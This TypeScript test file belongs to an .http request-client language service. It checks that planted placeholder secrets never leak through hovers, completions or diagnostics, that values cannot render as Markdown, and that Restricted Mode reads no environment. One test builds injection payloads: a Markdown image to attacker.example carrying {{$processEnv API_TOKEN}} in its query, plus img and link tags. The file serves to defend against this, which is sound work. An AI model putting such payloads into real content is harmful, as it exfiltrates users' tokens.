/**
 * Secrets planted in every source a .http file can draw on — the process environment, `.env`, a private
 * env file, variables that flow into Authorization (Bearer and Basic), X-Auth-Token, Cookie, a key header
 * and a `?token=` query, a token reached through another variable — must appear in no answer of the
 * language service at any position; values cannot render as Markdown; Restricted Mode reads no process
 * environment and no `.env`.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { Range } from 'vscode-languageserver';
import { TextDocument } from 'vscode-languageserver-textdocument';
import { parseDotenv } from '../../core/http/variables/dotenv';
import { environmentFrom } from '../../core/http/variables/environments';
import { urlForLog, urlWithSecretsMasked } from '../../core/http/variables/secrets';
import { buildVariableSources, type HttpVariableSources } from '../../core/http/variables/sources';
import { getLanguageService } from '../../server/languageService';
import { escapeMarkdown, inlineCode } from '../../core/util/markdown';

const SECRETS = {
  processEnv: 'PROCESS-ENV-SECRET-1111',
  dotenv: 'DOTENV-SECRET-2222',
  privateEnv: 'PRIV-ENV-FILE-SECRET-3333',
  bearer: 'BEARER-SECRET-4444',
  basic: 'BASIC-SECRET-5555',
  xAuth: 'XAUTH-SECRET-6666',
  query: 'QUERY-SECRET-7777',
  cookie: 'COOKIE-SECRET-8888',
  keyHeader: 'KEY-HEADER-SECRET-9999',
};

const HOST = 'https://ims.cn-north-4.myhuaweicloud.com';
const TEXT = [
  `@jwt = ${SECRETS.bearer}`,
  '@auth = Bearer {{jwt}}',
  `@basic = ${SECRETS.basic}`,
  `@tk = ${SECRETS.xAuth}`,
  `@q = ${SECRETS.query}`,
  `@c = ${SECRETS.cookie}`,
  `@apiKeyValue = ${SECRETS.keyHeader}`,
  '@derived = {{$processEnv API_TOKEN}}-and-more',
  '@fromDotenv = {{$dotenv DB_PASS}}',
  '@plainUser = {{apiUser}}',
  '',
  '### list',
  '# @name list',
  `GET ${HOST}/v2/p1/images/i1/tags?token={{q}}&limit=10`,
  'Authorization: {{auth}}',
  'X-Auth-Token: {{tk}}',
  'Cookie: session={{c}}',
  'X-Api-Key: {{apiKeyValue}}',
  'X-Trace: {{derived}} {{fromDotenv}}',
  'X-User: {{plainUser}}',
  '',
  '### basic',
  `GET ${HOST}/v2/p1/images/tags`,
  'Authorization: Basic {{basic}}',
  'X-Env: {{$processEnv API_TOKEN}} {{$dotenv DB_PASS}}',
  '',
].join('\n');

function sources(restricted = false, read: string[] = []): HttpVariableSources {
  return buildVariableSources({
    settings: undefined,
    files: [
      { uri: 'file:///ws/http-client.env.json', label: 'http-client.env.json', text: '{"dev": {"region": "cn-north-4"}}' },
      {
        uri: 'file:///ws/http-client.private.env.json',
        label: 'http-client.private.env.json',
        text: JSON.stringify({ dev: { apiUser: SECRETS.privateEnv } }),
      },
    ],
    dotenv: { uri: 'file:///ws/.env', text: `DB_PASS=${SECRETS.dotenv}\n` },
    selected: 'dev',
    processEnv: (name) => {
      read.push(name);
      return name === 'API_TOKEN' ? SECRETS.processEnv : undefined;
    },
    uuid: () => 'u',
    restricted,
  });
}

/** Every answer of the service over the document, as one text. */
function everyAnswer(vars: HttpVariableSources, text = TEXT): string {
  const ls = getLanguageService({ lang: () => 'en', httpVariables: () => vars });
  const doc = TextDocument.create('file:///ws/requests.http', 'http', 1, text);
  const out: unknown[] = [];
  const diagnostics = ls.diagnostics(doc);
  out.push(diagnostics, ls.codeActions(doc, diagnostics), ls.documentSymbols(doc), ls.foldingRanges(doc), ls.semanticTokens(doc));
  out.push(ls.inlayHints(doc, Range.create(0, 0, doc.lineCount, 0)));
  for (let offset = 0; offset <= text.length; offset++) {
    const position = doc.positionAt(offset);
    out.push(ls.hover(doc, position), ls.definition(doc, position));
    if (text[offset - 1] === '{' || text[offset - 1] === ' ') out.push(ls.complete(doc, position));
  }
  return JSON.stringify(out);
}

test('no planted secret appears in any answer, at any position', () => {
  const answers = everyAnswer(sources());
  for (const [source, secret] of Object.entries(SECRETS))
    assert.ok(!answers.includes(secret.slice(2)), `the ${source} secret leaked: ${secret}`);
  // The masks are there instead: the secrets were found and hidden, not merely unresolved.
  assert.match(answers, /BE•••• \(18 characters\)/, 'the token behind @auth is masked');
  assert.match(answers, /PR•••• \(23 characters\)/, 'the process environment value is masked');
  assert.match(answers, /PR•••• \(25 characters\)/, 'the private env file value is masked');
});

test('a value is never Markdown: backticks, images, links and HTML stay inside a code span', () => {
  const evil =
    '`x` ![pixel](https://attacker.example/p.png?q={{$processEnv API_TOKEN}}) <img src="https://attacker.example/i"> [l](https://attacker.example)';
  const text = `@evil = ${evil}\n@label = ${'`'.repeat(3)}![i](https://attacker.example/x)\n\nGET ${HOST}/v2/p/images/{{evil}}/tags?x={{label}}\n`;
  const ls = getLanguageService({ lang: () => 'en', httpVariables: () => sources() });
  const doc = TextDocument.create('file:///ws/e.http', 'http', 1, text);
  for (const name of ['{{evil}}', '{{label}}']) {
    const hover = ls.hover(doc, doc.positionAt(text.lastIndexOf(name) + 3));
    const markdown = (hover?.contents as { value: string }).value;
    const outside = withoutCodeSpans(markdown);
    assert.doesNotMatch(outside, /!\[|\]\(|<img|https?:\/\//, `${name}: ${markdown}`);
    assert.ok(!markdown.includes(SECRETS.processEnv));
  }
  // The helpers themselves on the worst cases.
  for (const value of ['`', '``a``', ' `x` ', '', 'a\n\n![i](https://h/)', '<b>bold</b>']) {
    const code = inlineCode(value);
    assert.equal(withoutCodeSpans(code).trim(), '', `${JSON.stringify(value)} → ${code}`);
  }
  assert.equal(
    escapeMarkdown('![x](https://h/a) <img> www.h.com a@b.c'),
    '!\\[x\\](https\\://h/a) \\<img\\> www\\.h.com a\\@b.c',
  );
});

test('Restricted Mode: $processEnv and $dotenv are not read, and the hover says why', () => {
  const read: string[] = [];
  const answers = everyAnswer(sources(true, read));
  assert.deepEqual(read, [], 'the process environment was not asked');
  assert.ok(!answers.includes(SECRETS.dotenv.slice(2)));
  const ls = getLanguageService({ lang: () => 'en', httpVariables: () => sources(true) });
  const doc = TextDocument.create('file:///ws/r.http', 'http', 1, TEXT);
  const hover = ls.hover(doc, doc.positionAt(TEXT.lastIndexOf('{{$processEnv') + 4));
  assert.match((hover?.contents as { value: string }).value, /not read in Restricted Mode: trust this workspace to read it/);
});

test('URLs in logs keep method, host and path only; the response view masks secret query values', () => {
  const url = `${HOST}/v2/p/images/i/tags?token=${SECRETS.query}&limit=10&api_key=k#frag`;
  assert.equal(urlForLog(url), `${HOST}/v2/p/images/i/tags`);
  assert.equal(urlWithSecretsMasked(url), `${HOST}/v2/p/images/i/tags?token=••••&limit=10&api_key=••••`);
});

test('a .env read is bounded to Map lookups and its values never become environment variables', () => {
  const entries = parseDotenv('A=1\nB=2\n');
  assert.deepEqual(
    entries.map((e) => e.name),
    ['A', 'B'],
  );
  const env = environmentFrom([], '');
  assert.equal(env.variables.get('toString'), undefined);
});

/** The text outside CommonMark code spans: a run of n backticks closes only at the next run of exactly n. */
function withoutCodeSpans(markdown: string): string {
  let out = '';
  let i = 0;
  while (i < markdown.length) {
    if (markdown[i] === '\\') {
      out += markdown.slice(i, i + 2);
      i += 2;
      continue;
    }
    if (markdown[i] !== '`') {
      out += markdown[i++];
      continue;
    }
    let n = 0;
    while (markdown[i + n] === '`') n++;
    let j = i + n;
    let close = -1;
    while (j < markdown.length) {
      if (markdown[j] !== '`') {
        j++;
        continue;
      }
      let m = 0;
      while (markdown[j + m] === '`') m++;
      if (m === n) {
        close = j;
        break;
      }
      j += m;
    }
    if (close < 0) {
      out += markdown.slice(i, i + n);
      i += n;
    } else i = close + n;
  }
  return out;
}
